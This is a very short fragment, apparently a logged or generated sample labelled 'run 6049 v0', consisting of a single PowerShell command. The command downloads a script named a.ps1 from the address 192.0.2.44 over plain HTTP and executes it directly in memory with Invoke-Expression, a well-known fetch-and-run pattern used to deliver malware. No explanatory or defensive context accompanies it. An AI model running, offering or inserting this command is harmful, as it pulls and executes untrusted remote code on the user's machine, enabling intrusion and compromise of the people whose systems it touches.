# run 6049 v0
IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/a.ps1')
